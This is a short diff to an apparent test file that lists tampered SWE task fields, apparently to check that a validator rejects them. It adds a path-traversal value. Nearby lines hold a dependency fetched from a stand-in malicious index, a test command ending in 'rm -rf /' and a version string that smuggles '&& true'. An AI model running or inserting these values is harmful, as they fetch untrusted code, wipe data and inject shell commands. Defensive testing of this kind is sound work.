@@ -137,6 +137,7 @@ def _tampered(task: SWEInstance, **changes) -> SWEInstance:
     ("test_deps", ["pytest==9.2.0 --index-url http://evil.example"]),
     ("test_cmd", "pytest -rA; rm -rf /"),
     ("pythonpath", "../../etc"),
+    ("pythonpath", "src/../../etc"),
     ("log_parser", "parse_log_nonexistent"),
     ("sdist_sha256", "0" * 63),
     ("python", "3.11 && true"),
